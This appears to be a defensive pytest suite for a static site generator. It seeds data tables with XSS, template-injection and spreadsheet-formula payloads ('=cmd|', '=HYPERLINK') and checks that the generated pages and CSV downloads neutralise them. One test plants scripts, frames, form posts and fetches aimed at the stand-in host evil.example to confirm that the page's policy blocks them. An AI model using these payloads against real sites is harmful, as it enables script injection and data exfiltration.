"""Pages of tables whose every text is an attack, and what a page's policy lets happen."""

import csv
import dataclasses
import io
import itertools
import re
from pathlib import Path
from urllib.parse import unquote

import hostile
import nbformat
import pandas as pd
import pytest
from small_site import declare
from visits import VIEWPORTS, Log

from crackdown import readings, stress
from crackdown.incidents import load_archive
from crackdown.plan import plan_site
from crackdown.report import export_html
from crackdown.site import write_index

TITLE = 'All <img src=x onerror=hit()> "of it" & {{7*7}}'
DECLARED = (
    {"name": "trends", "title": "<b onclick=hit()>Trends", "group": "The <i>country</i>", "notebook": "trends"},
    {"name": "province-{slug}", "title": "{label}", "group": "'\"><u>", "notebook": "province", "matrix": {"provinces": "all"}},
)
#: All that a page is made of; whatever else stands in one was injected.
TAGS = set("""
html head meta title style body main nav header footer section aside article h1 h2 h3 h4 p a ul ol li dl dt dd div span
strong em small b pre code details summary figure figcaption table caption thead tbody tr th td form label input select
option button script svg g path text tspan title desc defs pattern use rect line circle polygon polyline
""".split())  # fmt: skip
ATTRIBUTES = set("""
aria-current aria-label aria-labelledby aria-sort autocomplete charset class content d data-filter data-finding download
for height hidden href http-equiv id lang name open rel role scope tabindex type value width
cx cy fill fill-opacity fill-rule font-size font-style font-weight opacity paint-order patternunits patterntransform
pointer-events points r stroke stroke-dasharray stroke-linecap stroke-linejoin stroke-opacity stroke-width text-anchor
transform viewbox x x1 x2 xmlns y y1 y2 patternUnits viewBox patternTransform
""".split())  # fmt: skip
#: The page of the first province, named after what its name says.
PROVINCE = "province-script-script-hit-1-script"
WITNESS = "window.hits = []; window.hit = (n) => { window.hits.push(n ?? true) }"
INSIDE = """() => {
  const all = [...document.querySelectorAll("*")];
  return {
    hits: window.hits,
    tags: all.map(e => e.localName),
    attributes: all.flatMap(e => e.getAttributeNames()),
    addresses: all.flatMap(e => ["href", "src", "action", "xlink:href"].map(name => e.getAttribute(name)).filter(Boolean)),
    scripts: [...document.scripts].filter(e => !e.type).length,
    styles: document.querySelectorAll("style").length,
  };
}"""
# The texts that are not among those of the page, each as it was typed.
MISSING = """texts => {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  let shown = "";
  for (let node; (node = walker.nextNode());) if (!node.parentNode.closest("script")) shown += node.data + "\\0";
  return texts.filter(text => !shown.includes(text));
}"""
FORMULA = re.compile(r"\s*[=+@-]|[\t\r\n]")
NUMBER = re.compile(r"-?[\d,.]+%?")
LEADS = re.compile(
    r"#[\w-]*|[\w-]+\.html(#[\w-]*)?|https://.*"
    r"|data:(text/csv|application/x-bibtex|application/vnd\.citationstyles\.csl\+json);charset=utf-8,[\w.%/~-]*",
    re.DOTALL,
)


@pytest.fixture(scope="module")
def site(root, tmp_path_factory):
    """Make a site of hostile tables, few of its pages, in this process; return folder and tables."""
    folder = tmp_path_factory.mktemp("hostile")
    data = hostile.poison(root / "data", folder / "data")
    editions = declare(folder / "editions.yml", *DECLARED, title=TITLE)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(root)
        patch.setenv("CRACKDOWN_CACHE", str(folder / "cache"))
        # One for each of 500 outlets would take minutes.
        patch.setattr(stress, "list_readings", lambda one: itertools.islice(readings.list_readings(one), 1))
        plan = plan_site(editions, notebooks=Path("notebooks"), elsewhere={"data": str(data)})
        plan = dataclasses.replace(plan, pages=plan.pages[:2])
        made = {page.name: hostile.make_page(page.notebook, page.values) for page in plan.pages}
        made["index"] = write_index(plan, made)
        archive = load_archive(data)
    made["texts"] = hostile.exhibit(hostile.write_texts(hostile.MOST))
    for name, text in made.items():
        (folder / f"{name}.html").write_text(text, encoding="utf-8", newline="\n")
    return folder, archive, [*made]


@pytest.fixture(scope="module")
def opened(browser, site):
    """Open each page once; return the pages by name and what each asked for and complained of."""
    folder, _, names = site
    context = browser.new_context(viewport=VIEWPORTS["desktop"])
    context.add_init_script(WITNESS)
    found = {}
    for name in names:
        page, log = context.new_page(), Log((folder / f"{name}.html").as_uri(), [], [])
        log.follow(page)
        page.on("dialog", lambda dialog, log=log: log.complaints.append(dialog.message))
        page.goto(log.address)
        page.evaluate("() => document.querySelectorAll('details').forEach(e => { e.open = true })")
        found[name] = page, log
    yield found
    context.close()


def test_every_column_of_free_text_is_attacked_500_times(site):
    folder, archive, _ = site
    free = {
        name: {one.name for one in table.fields.values() if one.type == "string" and not (one.categories or one.references)}
        for name, table in archive.codebook.tables.items()
    }
    for name, table in archive.codebook.tables.items():
        # A pattern that takes more than codes takes attacks.
        free[name] -= {one.name for one in table.fields.values() if r"\S" not in one.constraints.get("pattern", r"\S")}
        assert {*hostile.FREE.get(name, ())} == free[name], name
        with (folder / "data" / table.path).open(encoding="utf-8", newline="") as file:
            rows = [*csv.DictReader(file)]
        for column in free[name]:
            texts = {text for row in rows for text in (row[column].split(";") if column == "aliases" else [row[column]])}
            least = len(archive.places) if column in ("name_en", "name_ko") else hostile.MOST
            assert len(texts) >= least, (name, column)


def typed(texts):
    """Write texts as a page holds them: HTML knows one line end."""
    return [text.replace("\r\n", "\n").replace("\r", "\n") for text in texts if text]


def test_no_text_of_a_table_becomes_an_element_a_script_or_a_request(opened):
    for name, (page, log) in opened.items():
        for box in page.locator("input[type=search]").all():
            box.fill("<img src=x onerror=hit()>")
        inside = page.evaluate(INSIDE)
        for box in page.locator("input[type=search]").all():
            box.fill("")
        assert inside["hits"] == [], name
        assert {*inside["tags"]} - TAGS == set(), name
        assert {*inside["attributes"]} - ATTRIBUTES == set(), name
        assert [one for one in inside["addresses"] if not LEADS.fullmatch(one)] == [], name
        assert (inside["scripts"], inside["styles"]) == (name != "texts", 1), name
        assert (log.requests, log.complaints) == ([], []), name
        assert page.url == log.address, name


def test_each_text_is_shown_as_it_was_typed(opened, site):
    _, archive, _ = site
    linked = archive.sources.loc[archive.incident_sources["source_id"].unique(), "publisher"]
    held = archive.incidents.loc[~archive.incidents["is_aggregate"]]
    provinces, counties = (archive.places[archive.places["level"] == one] for one in ("province", "county"))
    reported = counties.loc[counties.index.intersection(held["pcode"])]
    shown = {
        "trends": {
            "summary": archive.incidents["summary"],
            "publisher": linked,
            "county": reported["name_en"],
            "campaign": archive.campaigns.loc[[one for one in held["campaign_id"].unique() if one], "name"],
            "event": archive.timeline["title"],
            "money": archive.amounts["note"],
        },
        PROVINCE: {"unit": reported.loc[reported["parent_pcode"] == "KP01", "name_en"]},
        "index": {
            "province": provinces["name_en"],
            "correction": archive.corrections["wrong"],
            "page": archive.corrections["edition"],
            "figure": archive.corrections["figures"],
        },
        "texts": {"any": hostile.write_texts(hostile.MOST)},
    }
    sizes = {}
    for name, columns in shown.items():
        for column, texts in columns.items():
            texts = [*dict.fromkeys(typed(texts))]
            sizes[column] = len(texts)
            assert opened[name][0].evaluate(MISSING, texts) == [], column
    # Not every outlet has an article on an incident.
    assert min(sizes[column] for column in ("summary", "publisher", "event", "money", "correction", "page", "figure", "any")) > 480
    assert sizes["campaign"] > 30 and sizes["county"] >= 40 and sizes["unit"] > 5


def test_the_index_finds_what_was_typed(opened, site):
    page, _ = opened["index"]
    _, archive, _ = site
    summary = archive.incidents["summary"].iloc[3]
    page.locator("#words").fill(summary)
    found = page.locator("#results li").all_text_contents()
    assert any(one.endswith(f": {summary}") for one in found)
    assert page.evaluate(MISSING, [TITLE]) == []


def test_the_list_filters_by_a_publisher_whose_name_is_an_attack(opened, site):
    page, log = opened["trends"]
    name = site[1].sources["publisher"].value_counts().index[0]
    page.locator("#list [name=publisher]").select_option(label=name)
    rows = page.locator("#list tbody tr:not([hidden])")
    assert rows.count() > 5
    assert all(name in text for text in rows.all_text_contents())
    assert (page.evaluate("window.hits"), log.complaints) == ([], [])


def test_every_table_can_be_taken_home_and_no_cell_of_it_is_a_formula(opened, tmp_path):
    page, log = opened["trends"]
    links = page.locator('a[download$=".csv"]')
    keys = links.evaluate_all("all => all.map(e => e.getAttribute('download'))")
    assert {"campaigns.csv", "events.csv", "money.csv"} <= {*keys}
    with page.expect_download() as download:
        links.nth(keys.index("money.csv")).click()
    download.value.save_as(tmp_path / "money.csv")
    addresses = links.evaluate_all("all => all.map(e => e.getAttribute('href'))")
    tables = {key: unquote(address.partition(",")[2]) for key, address in zip(keys, addresses, strict=True)}
    assert (tmp_path / "money.csv").read_bytes().decode() == tables["money.csv"]
    for key, text in tables.items():
        cells = [*itertools.chain(*csv.reader(io.StringIO(text, newline="")))]
        assert [cell for cell in cells if FORMULA.match(cell) and not NUMBER.fullmatch(cell)] == [], key
    assert "'=HYPERLINK" in tables["events.csv"] and "'=cmd|" in tables["money.csv"]
    assert log.complaints == []


PLANTED = """async () => {
  const make = (tag, properties, parent = document.body) => parent.appendChild(Object.assign(document.createElement(tag), properties));
  make("base", { href: "https://evil.example/" }, document.head);
  make("script", { textContent: "hit('inline')" });
  make("script", { src: "https://evil.example/a.js" });
  make("style", { textContent: "main { opacity: 0.5 }" });
  make("link", { rel: "stylesheet", href: "https://evil.example/a.css" });
  make("img", { src: "https://evil.example/a.png" });
  make("iframe", { src: "https://evil.example/" });
  make("iframe", { srcdoc: "<script>parent.hit('frame')</" + "script>" });
  make("object", { data: "https://evil.example/" });
  make("video", { src: "https://evil.example/a.mp4" });
  make("div", { innerHTML: "<img src=x onerror=hit('handler')><p style='color: red' id=styled>x" });
  make("form", { action: "https://evil.example/" }).submit();
  await fetch("https://evil.example/").catch(() => {});
  await new Promise(resolve => setTimeout(resolve, 200));
  const [main, styled] = [document.querySelector("main"), document.getElementById("styled")].map(e => getComputedStyle(e));
  return [main.opacity, styled.color];
}"""


def test_what_gets_into_a_page_all_the_same_cannot_run_load_send_or_style(browser, site):
    folder, _, _ = site
    for name in (PROVINCE, "index"):
        context = browser.new_context()
        context.add_init_script(WITNESS)
        page, asked = context.new_page(), []
        page.goto((folder / f"{name}.html").as_uri())
        page.on("requestfinished", lambda request: asked.append(request.url))
        page.on("framenavigated", lambda frame: asked.append(frame.url))
        opacity, colour = page.evaluate(PLANTED)
        assert page.evaluate("window.hits") == [], name
        assert [one for one in asked if "evil" in one] == [], name
        assert opacity == "1" and colour != "rgb(255, 0, 0)", name
        assert page.url == (folder / f"{name}.html").as_uri(), name
        context.close()


def test_what_a_library_shows_stays_readable_under_the_policy(browser, tmp_path):
    frame = pd.DataFrame({"a": [1]})
    drawing = "<svg xmlns='http://www.w3.org/2000/svg' width='20' height='10'><style>rect { fill: red }</style><rect width='20' height='10'/></svg>"
    shown = [
        {"text/html": frame.style.highlight_max(color="red").to_html()},
        {"text/html": frame.to_html() + "<script>hit()</script>"},
        {"text/markdown": "| a |\n|--:|\n| 7 |"},
        {"image/svg+xml": drawing},
    ]
    outputs = [nbformat.v4.new_output("display_data", data) for data in shown]
    outputs.append(nbformat.v4.new_output("stream", text="\x1b[38;5;208morange\x1b[0m <b>"))
    cells = [
        nbformat.v4.new_markdown_cell("# A\n\n| a |\n|--:|\n| 8 |", id="a"),
        nbformat.v4.new_code_cell("1", outputs=outputs, id="b"),
    ]
    path = tmp_path / "page.html"
    path.write_text(export_html(nbformat.v4.new_notebook(cells=cells)), encoding="utf-8")
    page, log = browser.new_page(), Log(path.as_uri(), [], [])
    log.follow(page)
    page.goto(log.address)
    assert (log.requests, log.complaints) == ([], [])
    assert page.locator("[style], body style, body script").count() == 0
    assert page.locator("td").all_text_contents() == ["8", "1", "1", "7"]
    assert page.locator(".cell > pre").inner_text() == "orange <b>"
    assert page.locator("img").evaluate("e => [e.naturalWidth, e.naturalHeight]") == [20, 10]
    page.close()
